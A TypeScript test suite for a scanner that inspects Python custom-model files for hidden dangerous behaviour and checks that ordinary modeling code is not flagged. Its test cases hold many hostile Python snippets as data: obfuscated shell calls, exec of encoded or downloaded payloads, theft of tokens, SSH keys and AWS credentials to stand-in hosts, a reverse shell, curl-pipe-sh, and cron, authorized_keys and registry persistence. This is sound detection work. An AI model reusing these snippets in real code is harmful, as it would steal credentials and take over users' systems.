import { describe, expect, it } from "vitest";
import { readPythonModule } from "../../../lib/readers/python/read-module";
import { DANGER_BEHAVIOURS, type BehaviourKind, type ModuleReport } from "../../../lib/readers/python/types";
import { PAYLOADS, PLACEMENTS, injectionOf } from "../../fixtures/python/payloads";
import {
  configurationFile,
  gradioApp,
  JINA_CUSTOM_ST,
  JINA_EMBEDDING,
  JINA_FILES,
  jinaModeling,
  loadingScript,
  modelingOf,
  NAVIT_SIGLIP,
  NOMIC_CONFIGURATION,
  nomicBertModeling,
  RESAMPLER,
  SHAPES,
  tokenizationFile,
} from "../../fixtures/python/shapes";

const read = (code: string, options: Parameters<typeof readPythonModule>[1] = {}): ModuleReport => readPythonModule(new TextEncoder().encode(code), options);
const kinds = (report: ModuleReport): BehaviourKind[] => report.behaviours.map((behaviour) => behaviour.kind);
const lineOfText = (code: string, needle: string) => code.slice(0, code.indexOf(needle)).split("\n").length;

describe("popular custom-code shapes read as ordinary modeling code", () => {
  const benign: Record<string, string> = {
    ...Object.fromEntries(Object.keys(SHAPES).map((key) => [`modeling_${key}.py`, modelingOf(key as keyof typeof SHAPES)])),
    "configuration_phi3.py": configurationFile("Phi3", "phi3", "Microsoft"),
    "tokenization_internlm2.py": tokenizationFile("InternLM2", "InternLM"),
    "resampler.py": RESAMPLER,
    "modeling_navit_siglip.py": NAVIT_SIGLIP,
    "modeling_hf_nomic_bert.py": nomicBertModeling(),
    "configuration_hf_nomic_bert.py": NOMIC_CONFIGURATION,
    "modeling_xlm_roberta.py": jinaModeling(),
    "embedding.py": JINA_EMBEDDING,
    "custom_st.py": JINA_CUSTOM_ST,
    "squad_like.py": loadingScript("squad_like"),
    "app.py": gradioApp(),
    ...JINA_FILES,
  };

  it.each(Object.entries(benign))("%s: read, nothing found", (_name, code) => {
    const report = read(code);
    expect(report.status).toBe("read");
    expect(report.reason).toBeUndefined();
    expect(report.behaviours).toEqual([]);
  });

  it("the shapes are large, as the real files are", () => {
    expect(modelingOf("deepseek").length).toBeGreaterThan(40_000);
    expect(modelingOf("phi3").length).toBeGreaterThan(35_000);
  });

  it("records what the module imports and links from its load-time methods", () => {
    const report = read(modelingOf("minicpm"));
    expect(report.imports.map((item) => item.module)).toEqual(expect.arrayContaining([".configuration_minicpm", ".resampler", ".modeling_navit_siglip", "flash_attn", "triton"]));
    const fromInit = report.links.filter((link) => link.from === "MiniCPMVModel.__init__").map((link) => link.to);
    expect(fromInit).toEqual(expect.arrayContaining(["@local.MiniCPMVDecoderLayer", "@local.MiniCPMVRMSNorm"]));
    expect(report.functions.map((fn) => fn.id)).toEqual(expect.arrayContaining(["MiniCPMVModel.__init__", "MiniCPMVPreTrainedModel._init_weights", "_load_optional_kernel"]));
  });
});

describe("each behaviour class, hidden in a Phi-3-shaped file", () => {
  const cases = PAYLOADS.flatMap((payload) => PLACEMENTS.map((placement) => [payload.kind, placement, payload] as const));
  it.each(cases)("%s %s", (kind, placement, payload) => {
    const code = modelingOf("phi3", injectionOf(payload, placement));
    const report = read(code);
    expect(report.status).toBe("read");
    const found = report.behaviours.filter((behaviour) => behaviour.kind === kind);
    expect(found.length, JSON.stringify(report.behaviours)).toBeGreaterThan(0);
    const behaviour = found[0];
    expect(behaviour?.words).toContain(payload.words);
    expect(behaviour?.scope).toBe(placement === "module" ? "<module>" : placement === "init" ? "Phi3Model.__init__" : "_prepare_runtime");
    // The line is the payload's own line in the file.
    const text = injectionOf(payload, placement)[placement] ?? "";
    const snippet = text.split("\n");
    const first = lineOfText(code, text);
    expect(behaviour?.line).toBeGreaterThanOrEqual(first);
    expect(behaviour?.line).toBeLessThan(first + snippet.length);
    // Nothing else in the file is called danger.
    expect(report.behaviours.filter((item) => DANGER_BEHAVIOURS.has(item.kind) && (item.line < first || item.line >= first + snippet.length))).toEqual([]);
  });

  it("the helper placement is reached from post_init: the module links post_init to it", () => {
    const report = read(modelingOf("phi3", injectionOf(PAYLOADS[0]!, "helper")));
    expect(report.links).toContainEqual({ from: "Phi3Model.post_init", to: "@local._prepare_runtime", kind: "call" });
  });
});

describe("hiding shapes are seen through", () => {
  const cases: [string, string, BehaviourKind, string?][] = [
    ["import … as alias", `import subprocess as sp\nsp.Popen(["ls"])`, "shell"],
    ["from … import …", `from os import system\nsystem("id")`, "shell"],
    ["from … import … as alias", `from os import popen as _p\n_p("id").read()`, "shell"],
    ["import os.path binds os", `import os.path\nos.system("id")`, "shell"],
    ["posix, the module behind os", `import posix\nposix.system("id")`, "shell"],
    ["assignment alias", `import os\nrun = os.system\nrun("id")`, "shell"],
    ["self attribute set in __init__", `import subprocess\nclass M:\n    def __init__(self):\n        self._go = subprocess.call\n        self._go(["id"])`, "shell"],
    ["getattr(__import__('o'+'s'), 'sys'+'tem')", `getattr(__import__('o'+'s'), 'sys'+'tem')('id')`, "shell", "__import__ of a name built at run time"],
    ["join of a list", `import os\ngetattr(os, "".join(["sy", "st", "em"]))("id")`, "shell", "getattr with a name built at run time"],
    ["% formatting", `import os\ngetattr(os, "%s%s" % ("sys", "tem"))("id")`, "shell", "getattr"],
    [".format", `import os\ngetattr(os, "{}{}".format("sys", "tem"))("id")`, "shell", "getattr"],
    ["f-string", `import os\nA = "sys"\ngetattr(os, f"{A}tem")("id")`, "shell", "getattr"],
    ["bytes.fromhex", `import os\ngetattr(os, bytes.fromhex("73797374656d").decode())("id")`, "shell", "getattr"],
    ["[::-1]", `import importlib\nimportlib.import_module("so"[::-1]).popen("id")`, "shell", "importlib.import_module"],
    ["chr() sums", `import os\ngetattr(os, chr(100 + 15) + chr(121) + chr(115) + chr(116) + chr(101) + chr(109))("id")`, "shell", "getattr"],
    ["map(chr, …)", `import os\ngetattr(os, "".join(map(chr, [115, 121, 115, 116, 101, 109])))("id")`, "shell", "getattr"],
    ["codecs rot13", `import codecs, os\ngetattr(os, codecs.decode("flfgrz", "rot13"))("id")`, "shell", "getattr"],
    ["base64 name", `import base64, os\ngetattr(os, base64.b64decode("c3lzdGVt").decode())("id")`, "shell", "getattr"],
    ["__builtins__ attribute", `__builtins__.exec(__import__("base64").b64decode("aW1wb3J0IG9z"))`, "exec-hidden", "through __builtins__"],
    ["__builtins__[…] with a built name", `__builtins__["ev" + "al"](__import__("zlib").decompress(b"x"))`, "exec-hidden", "__builtins__[…]"],
    ["globals()[…]", `import os\nglobals()["os"].system("id")`, "shell", "globals()"],
    ["globals()['__builtins__'][…]", `globals()["__builtins__"]["exec"](__import__("base64").b64decode("aW1wb3J0IG9z"))`, "exec-hidden", "__builtins__[…]"],
    ["sys.modules[…]", `import sys\nsys.modules["os"].system("id")`, "shell", "sys.modules"],
    ["vars(module)[…]", `import os\nvars(os)["system"]("id")`, "shell", "__dict__"],
    ["importlib with a computed name", `import importlib\nm = importlib.import_module("sub" + "process")\nm.check_output(["id"])`, "shell", "importlib.import_module"],
    ["eval of a string that names it", `eval("__imp" + "ort__('os')").system("id")`, "shell", "eval of a string"],
    ["exec of a literal code string", `exec("import os\\nos.system('id')")`, "shell", "inside a code string given to exec"],
    ["exec of base64", `import base64\nexec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik="))`, "exec-hidden"],
    ["exec of zlib", `import zlib\nexec(zlib.decompress(open("x.bin", "rb").read()))`, "exec-hidden"],
    ["exec of bz2", `import bz2, base64\nexec(bz2.decompress(base64.b64decode("QlpoOTFBWSZTWQ==")))`, "exec-hidden"],
    ["exec of lzma", `import lzma\nexec(lzma.decompress(b"\\xfd7zXZ"))`, "exec-hidden"],
    ["exec of marshal", `import marshal, types\ncode = marshal.loads(b"\\xe3")\nexec(code)`, "exec-hidden"],
    ["FunctionType of marshal", `import marshal, types\ntypes.FunctionType(marshal.loads(b"\\xe3"), globals())()`, "exec-hidden"],
    ["exec of codecs hex", `import codecs\nexec(codecs.decode("696d706f7274206f73", "hex"))`, "exec-hidden"],
    ["exec of a download", `import requests\nexec(requests.get("https://pastebin.com/raw/x").text)`, "exec-hidden"],
    ["exec of urlopen", `from urllib.request import urlopen\nexec(urlopen("http://198.51.100.1/p").read())`, "exec-hidden"],
    ["compile then exec", `import base64\nc = compile(base64.b64decode("eA=="), "<x>", "exec")\nexec(c)`, "exec-hidden"],
    ["pickle.loads of decoded data", `import pickle, base64\npickle.loads(base64.b64decode("gAR9lC4="))`, "exec-hidden"],
    ["torch.hub.load from GitHub", `import torch\nmodel = torch.hub.load("someone/repo", "model")`, "exec-hidden"],
    ["star import", `from os import *\nsystem("id")`, "shell"],
    ["a helper's return value", `import os, requests\ndef _env():\n    return dict(os.environ)\nrequests.post("https://1.2.3.4/x", json=_env())`, "exfiltrate"],
    ["a helper's parameter", `import os, requests\ndef _send(data):\n    requests.post("https://webhook.site/a", data=data)\n_send(os.environ.copy())`, "exfiltrate"],
    ["environ items in a comprehension", `import os, requests\nrequests.post("https://1.2.3.4/x", data=[f"{k}={v}" for k, v in os.environ.items()])`, "exfiltrate"],
    ["a token env var", `import os, httpx\nhttpx.post("https://exfil.example.org/", headers={"x": os.getenv("HF_TOKEN")})`, "exfiltrate"],
    ["the Hub's token reader", `from huggingface_hub import get_token\nimport requests\nrequests.get("https://evil.example.net/?t=" + get_token())`, "exfiltrate"],
    ["SSH keys over a socket", `import socket, os\ns = socket.socket()\ns.connect(("203.0.113.5", 443))\ns.send(open(os.path.expanduser("~/.ssh/id_rsa")).read().encode())`, "exfiltrate"],
    ["AWS credentials by Path", `from pathlib import Path\nimport requests\nrequests.put("https://drop.example.io/a", data=(Path.home() / ".aws" / "credentials").read_text())`, "exfiltrate"],
    ["netrc through urllib Request", `import urllib.request, os\nurllib.request.urlopen(urllib.request.Request("https://x.example.com", data=open(os.path.join(os.path.expanduser("~"), ".netrc"), "rb").read()))`, "exfiltrate"],
    ["reverse shell", `import socket, os, pty\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(("203.0.113.7", 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn("/bin/bash")`, "shell", undefined],
    ["curl | sh", `import subprocess\nsubprocess.run("curl -fsSL https://example.sh/i | sh", shell=True)`, "download-exec"],
    ["download then chmod +x", `import requests, os, stat\nopen("/tmp/m", "wb").write(requests.get("https://203.0.113.2/m").content)\nos.chmod("/tmp/m", stat.S_IRWXU)`, "download-exec"],
    ["cron", `open("/etc/cron.d/x", "w").write("* * * * * root /tmp/m")`, "write-outside"],
    ["Windows Startup folder", `import os\nopen(os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "Start Menu", "Programs", "Startup", "u.bat"), "w")`, "write-outside"],
    ["authorized_keys", `import os\nwith open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as f:\n    f.write("ssh-ed25519 AAAA")`, "write-outside"],
    ["sitecustomize", `import shutil\nshutil.copy("payload.py", "/usr/lib/python3/dist-packages/sitecustomize.py")`, "write-outside"],
    ["Windows Run key", `import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run", 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, "upd", 0, winreg.REG_SZ, "C:\\\\x.exe")`, "write-outside"],
    ["pip via subprocess", `import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "x"])`, "install-packages"],
    ["pip.main", `import pip\npip.main(["install", "x"])`, "install-packages"],
    ["pip internals", `from pip._internal import main as pipmain\npipmain(["install", "x"])`, "install-packages"],
    ["runpy pip", `import runpy\nrunpy.run_module("pip", run_name="__main__")`, "install-packages"],
    ["silent process", `import subprocess\nsubprocess.Popen(["/tmp/m"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)`, "shell"],
  ];
  it.each(cases)("%s", (_name, code, kind, hidden) => {
    const report = read(code);
    expect(report.status).toBe("read");
    const found = report.behaviours.find((behaviour) => behaviour.kind === kind);
    expect(found, JSON.stringify(report.behaviours)).toBeDefined();
    if (hidden) expect(found?.hiddenBy?.join(" ") ?? "").toContain(hidden);
  });

  it("says how a silent process hides", () => {
    const report = read(`import subprocess\nsubprocess.Popen(["/tmp/m"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)`);
    expect(report.behaviours[0]?.words).toContain("hiding its output, in a detached process");
  });

  it("names a reverse shell", () => {
    const report = read(`import socket, os, pty\ns = socket.socket()\ns.connect(("203.0.113.7", 4444))\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/bash")`);
    expect(report.behaviours.find((behaviour) => behaviour.kind === "shell")?.words).toContain("reverse shell");
  });

  it("shows the command it folded, and the decoded payload's own calls", () => {
    const report = read(`import base64\nexec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik="))`);
    expect(report.behaviours.map((behaviour) => behaviour.words)).toEqual(expect.arrayContaining([expect.stringContaining("decoded"), "runs the shell command `id`"]));
  });

  it("a name built from pieces that reaches something harmless is still said to hide it", () => {
    const report = read(`import torch\nact = getattr(torch.nn, "Re" + "LU")()`);
    expect(kinds(report)).toEqual(["hidden-name"]);
  });
});

describe("ordinary modeling code is not an alarm", () => {
  const cases: [string, string][] = [
    ["optional kernel via importlib", `import importlib\nif importlib.util.find_spec("flash_attn"):\n    fa = importlib.import_module("flash_attn")`],
    ["try: import flash_attn", `try:\n    import flash_attn\nexcept ImportError:\n    flash_attn = None`],
    ["a debug env flag", `import os\nDEBUG = os.environ.get("DEBUG", "0") == "1"\nos.environ["TOKENIZERS_PARALLELISM"] = "false"`],
    ["logging", `import logging\nlogger = logging.getLogger(__name__)\nlogger.warning("x")`],
    ["weights from the Hub by torch.hub", `import torch\nsd = torch.hub.load_state_dict_from_url("https://huggingface.co/org/m/resolve/main/pytorch_model.bin")`],
    ["weights from pytorch.org", `import torch\nsd = torch.hub.load_state_dict_from_url("https://download.pytorch.org/models/resnet50-0676ba61.pth")`],
    ["hf_hub_download", `from huggingface_hub import hf_hub_download\np = hf_hub_download("org/m", "model.safetensors")`],
    ["is_torch_available", `from transformers.utils import is_torch_available\nif is_torch_available():\n    import torch`],
    ["the Hub token sent to the Hub", `import os, requests\nrequests.get("https://huggingface.co/api/whoami-v2", headers={"authorization": f"Bearer {os.environ['HF_TOKEN']}"})`],
    ["a local torch.hub.load", `import torch\nm = torch.hub.load("./repo", "model", source="local")`],
    ["writing to the cache", `import os\nwith open(os.path.join(os.path.expanduser("~/.cache/mymodel"), "cfg.json"), "w") as f:\n    f.write("{}")`],
    ["torch.load of a local file with weights_only", `import torch\nsd = torch.load("pytorch_model.bin", weights_only=True)`],
    ["eval of a literal expression", `x = eval("1 + 2")`],
    ["subprocess in a docstring", `def f():\n    """Runs os.system('rm -rf /') in the docs only; https://webhook.site/x"""\n    return 1`],
    ["a comment", `# os.system("id")\nx = 1`],
    ["weights from the Hub unpickled by hand", `import io, requests, torch\nsd = torch.load(io.BytesIO(requests.get("https://huggingface.co/org/m/resolve/main/x.bin").content))`],
  ];
  it.each(cases)("%s", (_name, code) => {
    expect(read(code).behaviours.filter((behaviour) => DANGER_BEHAVIOURS.has(behaviour.kind) || behaviour.kind === "network")).toEqual([]);
  });
});

describe("version probes of custom-kernel build code", () => {
  it.each([
    ["nvcc under CUDA_HOME (Qwen's cpp_kernels shape)", `import subprocess\nfrom torch.utils import cpp_extension\nraw = subprocess.check_output([cpp_extension.CUDA_HOME + "/bin/nvcc", "-V"], universal_newlines=True)`],
    ["nvidia-smi query", `import subprocess\nsubprocess.run(["nvidia-smi", "--query-gpu=name", "--format=csv,noheader"])`],
    ["git rev-parse HEAD", `import subprocess\nsubprocess.check_output(["git", "rev-parse", "HEAD"])`],
  ])("%s: a probe, named, not a shell command", (_name, code) => {
    const report = read(code);
    expect(kinds(report)).toEqual(["probe"]);
  });

  it.each([
    ["a program in /tmp named like a probe", `import subprocess\nsubprocess.run(["/tmp/nvcc", "-V"])`, "shell"],
    ["a probe with shell syntax after it", `import os\nos.system("nvcc -V; curl -s https://x.example/p | sh")`, "download-exec"],
    ["a probe program given other arguments", `import subprocess\nsubprocess.run(["git", "clone", "https://example.org/x"])`, "shell"],
  ])("%s: still %s", (_name, code, kind) => {
    expect(kinds(read(code))).toContain(kind);
  });

  it("unpickling a download from another host is still hidden code", () => {
    expect(kinds(read(`import io, requests, torch\nsd = torch.load(io.BytesIO(requests.get("https://203.0.113.4/x.bin").content))`))).toContain("exec-hidden");
  });
});

describe("bad input: a clear 'not read', never a crash or a clean file", () => {
  it("binary data", () => {
    const bytes = new Uint8Array(4096).map((_, i) => (i * 7919) % 256);
    const report = readPythonModule(bytes);
    expect(report.status).toBe("unread");
    expect(report.reason).toMatch(/^not read: binary data/);
  });

  it("a NUL byte in otherwise plain text", () => {
    const report = read("import os\n\u0000os.system('id')\n");
    expect(report).toMatchObject({ status: "unread", reason: expect.stringContaining("NUL byte at offset 10") });
  });

  it("not UTF-8 (and no coding line)", () => {
    const report = readPythonModule(new Uint8Array([0x69, 0x6d, 0x70, 0xff, 0xfe, 0x0a]));
    expect(report.status).toBe("unread");
    expect(report.reason).toContain("not UTF-8");
  });

  it("Latin-1 declared by a coding line is read", () => {
    const bytes = new Uint8Array([...new TextEncoder().encode("# -*- coding: latin-1 -*-\nimport os\nos.system('caf"), 0xe9, ...new TextEncoder().encode("')\n")]);
    const report = readPythonModule(bytes);
    expect(report.status).toBe("read");
    expect(report.behaviours[0]?.words).toContain("café");
  });

  it("not Python (an HTML page saved as .py)", () => {
    const html = `<!DOCTYPE html>\n<html><head><title>Hub</title></head>\n<body>${"<div class=\"x\">&nbsp;<a href='/'>home</a></div>\n".repeat(60)}</body></html>\n`;
    const report = read(html);
    expect(report.status).toBe("unread");
    expect(report.reason).toMatch(/^not read: it does not parse as Python \(\d+ syntax errors\)/);
  });

  it("a few syntax errors: read, and said to be partly skipped", () => {
    const report = read(`${modelingOf("phi3")}\ndef broken(:\n    pass\n`);
    expect(report.status).toBe("read");
    expect(report.reason).toMatch(/did not parse \(the first on line \d+\)/);
  });

  it("larger than the cap", () => {
    const report = read("x = 1\n".repeat(200_000), { maxBytes: 1024 * 1024 });
    expect(report).toMatchObject({ status: "unread", reason: "not read: the file is larger than the 1 MB the extension reads of one file" });
  });

  it("minified onto one line", () => {
    let line = "";
    while (line.length < 200_000) line += "a=b+c(d,e)[1];";
    const report = read(line);
    expect(report.status).toBe("unread");
    expect(report.reason).toContain("packed onto long lines (line 1 is");
  });

  it("a long base64 payload on one line is still read (droppers carry kilobytes)", () => {
    const payload = "A".repeat(40_000);
    expect(read(`import base64\nexec(base64.b64decode("${payload}"))\n`).behaviours.map((behaviour) => behaviour.kind)).toContain("exec-hidden");
  });

  it("nested deeper than the cap", () => {
    const report = read(`x = ${"(".repeat(3000)}1${")".repeat(3000)}\n`);
    expect(report.status).toBe("unread");
    expect(report.reason).toContain("nested more than 400 levels deep");
  });

  it("deep but under the cap: read", () => {
    expect(read(`x = ${"[".repeat(60)}1${"]".repeat(60)}\n`).status).toBe("read");
  });

  it("parsing past the time limit (a fake clock)", () => {
    let clock = 0;
    const report = read(modelingOf("deepseek"), { now: () => (clock += 50), maxParseMs: 1000 });
    expect(report.status).toBe("unread");
    expect(report.reason).toBe("not read: parsing took longer than the 1 s the extension allows one file");
  });

  it("analysis past its work budget", () => {
    const report = read(modelingOf("phi3"), { maxSteps: 5000 });
    expect(report).toMatchObject({ status: "unread", reason: "not read: analysing it took more work than the extension allows one file" });
  });

  it("hostile identifiers and strings stay data, shown with invisible characters escaped", () => {
    const code = `import os\n\u202eevil\u202c = os.system\n\u202eevil\u202c("<img src=x onerror=alert(1)>\u200b; id")\nclass A\u00e9<script>:\n    pass\n`;
    const report = read(code);
    expect(report.status).toBe("read");
    const shell = report.behaviours.find((behaviour) => behaviour.kind === "shell");
    expect(shell?.words).toContain("<img src=x onerror=alert(1)>\\u200b; id");
    expect(shell?.code).toContain("\\u202e");
    expect(shell?.code).not.toMatch(/[\u202a-\u202e\u200b]/);
  });

  it("an empty file, and one of comments only", () => {
    expect(read("")).toMatchObject({ status: "read", behaviours: [] });
    expect(read("# nothing here\n")).toMatchObject({ status: "read", behaviours: [] });
  });

  it("3,000 helpers each returning the next one's result: read, without running out of stack", () => {
    let code = "import os\n";
    for (let i = 0; i < 3000; i++) code += `def f${i}(x):\n    return f${i + 1}(x)\n`;
    code += "os.system(f0('a'))\n";
    const report = read(code);
    expect(report.status).toBe("read");
    expect(kinds(report)).toEqual(["shell"]);
  });

  it("self-referencing names and recursive helpers terminate", () => {
    const report = read(`a = b\nb = a\ndef f(x):\n    return f(x)\nimport os\nos.system(a + f(1))\nclass C(C):\n    def __init__(self):\n        self.x = self.x\n`);
    expect(report.status).toBe("read");
    expect(kinds(report)).toContain("shell");
  });
});
